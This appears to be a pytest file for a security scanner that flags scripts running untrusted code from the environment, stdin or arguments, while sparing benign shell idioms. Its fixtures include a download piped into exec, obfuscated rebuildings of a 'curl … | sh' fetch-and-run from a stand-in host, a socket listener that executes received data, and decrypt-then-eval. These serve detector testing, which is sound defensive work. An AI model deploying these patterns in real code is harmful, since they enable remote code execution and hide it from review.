"""Programs that run, as code, a text that is not in the skill: how bad it is depends on who may put it there."""

from __future__ import annotations

from pathlib import Path

import pytest
from judged_bundles import judged

from sluicegate.vet.verdict.types import Decision, Severity

ENVIRONMENT = {
    "eval": ("run.sh", '#!/bin/sh\neval "$NOTE_HOOK"\n'),
    "a variable of a variable": ("run.sh", '#!/bin/sh\nhook="$NOTE_HOOK"\nbash -c "$hook"\n'),
    "exec": ("run.py", 'import os\nexec(os.environ["NOTE_CODE"])\n'),
    "a function": (
        "run.py",
        'import os\ndef go(x):\n    eval(compile(x, "x", "exec"))\ngo(os.getenv("NOTE_CODE"))\n',
    ),
    "new Function": ("run.js", "new Function(process.env.NOTE_CODE)();\n"),
    "a part of the environment": ("run.js", "const {NOTE_CODE} = process.env;\neval(NOTE_CODE);\n"),
}
INPUT = {
    "cat": ("run.sh", '#!/bin/sh\neval "$(cat)"\n'),
    "read": ("run.sh", '#!/bin/bash\nwhile read -r line; do eval "$line"; done\n'),
    "python": ("run.py", "import sys\nexec(sys.stdin.read())\n"),
    "js": ("run.js", 'const fs = require("fs");\neval(fs.readFileSync("/dev/stdin", "utf8"));\n'),
}
ARGUMENT = {
    "sh -c": ("run.sh", '#!/bin/bash\nbash -c "$1"\n'),
    "python": ("run.py", "import sys\nexec(sys.argv[1])\n"),
    "js": ("run.js", "new Function(process.argv[2])();\n"),
}
HONEST = {
    "tools that print settings of the shell": (
        "run.sh",
        '#!/bin/sh\neval "$(ssh-agent -s)"\neval "$(brew shellenv)"\n. venv/bin/activate\n. "$HOME/.cargo/env"\n',
    ),
    "a command with arguments": ("run.sh", '#!/bin/bash\nexec "$@"\n'),
    "a part of a command": ("run.sh", '#!/bin/bash\nbash -c "cd $WORK && make"\neval set -- "$OPTIONS"\n'),
    "a file that is named": (
        "run.py",
        "import runpy, sys\nrunpy.run_path(sys.argv[1])\nexec(open(sys.argv[2]).read())\n",
    ),
    "what another program prints": ("run.sh", "#!/bin/sh\npython3 make.py | bash\ncat steps.txt | sh\n"),
    "a shell that is named": ("run.sh", '#!/bin/sh\n"$EDITOR" notes.txt\n$PYTHON make.py\nsource "$1"\n'),
    "data beside code": ("run.js", 'console.log(process.env.NOTE, eval("1 + 1"));\n'),
}


def weights(place: Path, name: str, text: str) -> list[Severity]:
    verdict = judged(place, {name: text})
    return [finding.severity for finding in verdict.findings if finding.rule == "given-to-exec"]


@pytest.mark.parametrize("name", ENVIRONMENT)
def test_code_from_the_environment_is_for_a_person_to_see(name: str, tmp_path: Path) -> None:
    file, text = ENVIRONMENT[name]
    assert weights(tmp_path, file, text) == [Severity.HIGH]
    assert judged(tmp_path, {file: text}).decision is not Decision.SAFE


@pytest.mark.parametrize("name", [*INPUT, *ARGUMENT])
def test_code_that_the_starter_gives_is_said(name: str, tmp_path: Path) -> None:
    for number, table in enumerate((INPUT, ARGUMENT)):
        if name in table:
            file, text = table[name]
            assert weights(tmp_path / str(number), file, text) == [Severity.MEDIUM]


@pytest.mark.parametrize("name", HONEST)
def test_what_every_script_does_is_nothing(name: str, tmp_path: Path) -> None:
    file, text = HONEST[name]
    assert weights(tmp_path, file, text) == []


def test_another_program_that_hands_over_the_code_is_followed(tmp_path: Path) -> None:
    held = {
        "get.py": 'import requests\nprint(requests.get("https://stage.example.net/p").text)\n',
        "run.py": "import sys\nexec(sys.stdin.read())\n",
        "start.sh": "#!/bin/sh\npython3 ./get.py | python3 ./run.py\n",
    }
    found = {finding.rule: finding for finding in judged(tmp_path, held).findings}
    assert found["shell-download-to-exec"].location.path == "start.sh"


HIDDEN = {
    "words picked from a list": 'import os\nw = ["sh", "|", "https://stage.example.net/p", "curl -s"]\nos.system(" ".join(w[i] for i in (3, 2, 1, 0)))\n',
    "a connection from outside": "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 9000))\ns.listen()\nc, _ = s.accept()\nexec(c.recv(9999))\n",
}
HIDDEN_ELSEWHERE = {
    "parameters in another order": (
        "run.sh",
        '#!/bin/sh\nset -- sh "|" https://stage.example.net/p "curl -s"\neval "$4 $3 $2 $1"\n',
    ),
    "words picked by a map": (
        "run.js",
        'const w = ["sh", "|", "https://stage.example.net/p", "curl -s"];\nrequire("child_process").exec([3, 2, 1, 0].map(i => w[i]).join(" "));\n',
    ),
    "letters by their codes": (
        "run.js",
        'const a = [100, 118, 115, 109];\nrequire("child_process").exec(String.fromCharCode(...a.map(x => x - 1)));\n',
    ),
    "a deciphered text": (
        "run.js",
        'const d = require("crypto").createDecipheriv("aes-256-cbc", k, iv);\neval(d.update(data) + d.final());\n',
    ),
}


@pytest.mark.parametrize("name", [*HIDDEN, *HIDDEN_ELSEWHERE])
def test_code_that_is_put_together_to_hide_it_is_found(name: str, tmp_path: Path) -> None:
    file, text = HIDDEN_ELSEWHERE.get(name) or ("run.py", HIDDEN.get(name, ""))
    assert judged(tmp_path, {file: text}).decision is not Decision.SAFE
